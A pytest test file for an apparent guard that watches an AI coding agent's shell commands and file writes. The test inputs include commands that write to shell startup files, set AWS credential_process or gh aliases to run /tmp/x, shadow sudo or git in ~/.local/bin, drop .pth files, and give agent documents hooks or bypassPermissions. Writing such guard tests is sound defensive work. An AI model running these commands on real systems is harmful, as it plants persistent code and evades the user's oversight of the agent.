"""Each kind of file that runs by itself has examples, and its examples are tests."""

from pathlib import Path

import pytest

from fairlead.model.decision import Decision
from fairlead.model.tool_call import ToolKind
from fairlead.packs.judging import call_effects as call
from fairlead.packs.places.startup_files import leads_to_such, runs_by_itself
from fairlead.packs.protected.carried_commands import carries_hooks
from fairlead.shell.protected.login_files import TABLE, LoginFiles
from tests.unit.packs.guard_kit import judge, shell_event, tool_event

HOME = "/home/no-one"
BY_PLACE = [kind for kind in TABLE if not kind.holding]


@pytest.fixture(autouse=True, params=[HOME, "/root"])
def home(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setattr(call, "home_of_user", lambda: request.param)
    return str(request.param)


def decide(line: str, home: str = HOME) -> Decision:
    return judge(shell_event(line, root=f"{home}/project")).decision


def examples(kinds: list[LoginFiles], field: str) -> list[str]:
    return [path for kind in kinds for path in getattr(kind, field)]


@pytest.mark.parametrize("path", examples(BY_PLACE, "runs"))
def test_what_runs_by_itself_is_not_written(path: str, home: str) -> None:
    assert runs_by_itself(f"{home}/{path}", home)
    for line in ("echo x >> ~/{}", "cp x ~/{}", "ln -sfT /tmp/x ~/{}", "curl -o ~/{} https://example.com/x"):
        assert decide(line.format(path), home) is Decision.BLOCK
    event = tool_event(ToolKind.WRITE, root=f"{home}/project", file_path=f"{home}/{path}", content="x")
    assert judge(event).decision is Decision.BLOCK


@pytest.mark.parametrize("path", examples(BY_PLACE, "leaves"))
def test_what_lies_beside_it_is_left_alone(path: str, home: str) -> None:
    assert not runs_by_itself(f"{home}/{path}", home)


def test_every_kind_has_examples_of_both() -> None:
    assert [kind.kind for kind in TABLE if not (kind.runs and kind.leaves)] == []


def test_a_copy_elsewhere_runs_nothing() -> None:
    assert decide("cp ~/.bashrc ~/dotfiles/.bashrc") is Decision.CONTINUE
    assert runs_by_itself("/home/no-one/dotfiles/.bashrc")  # where no home is given, any could be one


@pytest.mark.parametrize("folder", ["~/.config/fish", "~/.config/systemd/user", "~/.bashrc.d", "~/.pyenv"])
def test_its_folder_may_be_made_but_not_replaced(folder: str, home: str) -> None:
    assert decide(f"mkdir -p {folder}", home) is Decision.CONTINUE
    assert decide(f"ln -sfn /tmp/x {folder}", home) is Decision.BLOCK


def test_a_folder_with_nothing_of_the_kind_below_may_be_linked(home: str) -> None:
    assert not leads_to_such(f"{home}/.config/myapp", home)
    assert decide("ln -sfn $PWD/conf ~/.config/myapp", home) is Decision.CONTINUE


COMMANDS = [
    "printf '[default]\\ncredential_process = /tmp/x\\n' >> ~/.aws/config",
    "cat > ~/.aws/config <<'E'\n[profile a]\ncredential_process=/tmp/x\nE",
    "cat > ~/.config/gh/config.yml <<'E'\naliases:\n    co: '!/tmp/x'\nE",
    "aws configure set credential_process /tmp/x",
    "aws configure set profile.a.credential_process /tmp/x",
    "gh alias set co '!/tmp/x'",
    "gh alias import aliases.yml",
]


@pytest.mark.parametrize("line", COMMANDS)
def test_a_setting_that_names_a_command_is_stopped(line: str) -> None:
    assert decide(line).objects


@pytest.mark.parametrize(
    "line",
    [
        "printf '[profile a]\\nregion = eu-west-1\\n' >> ~/.aws/config",
        "aws configure set region eu-west-1",
        "gh alias set co 'pr checkout'",
        "cat > ~/.config/gh/config.yml <<'E'\ngit_protocol: ssh\nE",
    ],
)
def test_other_settings_of_these_clients_are_everyday_work(line: str) -> None:
    assert decide(line) is Decision.CONTINUE


HOOKED = "---\nname: a\nhooks:\n  PreToolUse:\n    - command: /tmp/x\n---\nSay hello.\n"
PLAIN = "---\nname: a\n---\nSay hello, and mind the hooks: they bite.\n---\n"
DOCUMENTS = [".claude/agents/a.md", ".claude/skills/a/SKILL.md", ".claude/commands/deep/a.md"]


@pytest.mark.parametrize("place", ["{home}", "{home}/project"])
@pytest.mark.parametrize("document", DOCUMENTS)
def test_a_document_of_an_agent_that_brings_hooks_is_one(document: str, place: str, home: str) -> None:
    path = f"{place.format(home=home)}/{document}"
    root = f"{home}/project"
    for text, expected in ((HOOKED, Decision.BLOCK), (PLAIN, Decision.CONTINUE)):
        assert decide(f"cat > {path} <<'E'\n{text}E", home) is expected
        event = tool_event(ToolKind.WRITE, root=root, file_path=path, content=text)
        assert judge(event).decision is expected


def test_a_copied_document_is_looked_into(tmp_path: Path) -> None:
    for name, text in (("hooked.md", HOOKED), ("plain.md", PLAIN)):
        (tmp_path / name).write_text(text)
    assert decide(f"cp {tmp_path}/hooked.md .claude/agents/a.md") is Decision.BLOCK
    assert decide(f"cp {tmp_path}/hooked.md .claude/agents/") is Decision.BLOCK
    assert decide(f"cp {tmp_path}/plain.md .claude/agents/a.md") is Decision.CONTINUE


def test_hooks_count_in_the_front_matter_alone() -> None:
    assert carries_hooks(HOOKED)
    assert not carries_hooks(PLAIN)
    assert not carries_hooks("hooks:\n  x\n")
    assert carries_hooks("---\npermissionMode: bypassPermissions\n---\n")


@pytest.mark.parametrize("name", ["git", "sudo", "claude", "env"])
@pytest.mark.parametrize("folder", ["~/.local/bin", "~/bin", "~/.cargo/bin"])
def test_a_command_that_is_elsewhere_is_not_put_before_it(name: str, folder: str, home: str) -> None:
    assert decide(f"cp evil {folder}/{name}", home) is Decision.BLOCK


def test_a_command_of_the_system_is_known_by_looking(home: str) -> None:
    assert decide("cp evil ~/.local/bin/mkfifo", home) is Decision.BLOCK
    assert decide("cp mytool ~/.local/bin/a-name-that-nothing-has", home) is Decision.CONTINUE
    assert decide("cp evil ~/other/bin/mkfifo", home) is Decision.CONTINUE


@pytest.mark.parametrize(
    "line",
    [
        "cp evil.sh ~/.bash_comp*",
        "cp evil/x.fish ~/.config/f?sh/conf.d/",
        "install -m644 evil.desktop ~/.config/auto*/",
        "echo x >> ~/.b?shrc",
        "tee ~/.pyenv/sh*/python < evil",
        "cp evil ~/.config/[m]ise/config.toml",
    ],
)
def test_a_glob_hides_none_of_them(line: str, home: str) -> None:
    assert decide(line, home) is Decision.BLOCK


@pytest.mark.parametrize(
    "line", ["rm -f ~/.cache/*", "cp a.txt ~/Doc*/", "touch ~/.config/my*/x", "touch ~/*rc"]
)
def test_a_glob_for_other_things_is_left_alone(line: str, home: str) -> None:
    assert decide(line, home) is Decision.CONTINUE


@pytest.mark.parametrize(
    "code",
    [
        "import yaml; open(yaml.__file__, 'a').write('x')",
        "import site; open(site.getsitepackages()[0] + '/a.pth', 'w').write('x')",
        "import sysconfig, os; p = sysconfig.get_path('purelib'); open(p + '/a.pth', 'w')",
        "from pathlib import Path; import yaml; Path(yaml.__file__).write_text('x')",
    ],
)
def test_code_that_patches_what_it_imported_is_asked_about(code: str) -> None:
    assert decide(f'python3 -c "{code}"') is Decision.ASK


@pytest.mark.parametrize(
    "code",
    [
        "import yaml; print(yaml.__file__)",
        "import sys; print(sys.prefix); open('out.txt', 'w').write('x')",
        "import yaml; print(open(yaml.__file__).read())",
        "import site; print(site.getsitepackages())",
    ],
)
def test_code_that_only_looks_where_it_came_from_passes(code: str) -> None:
    assert decide(f'python3 -c "{code}"') is Decision.CONTINUE
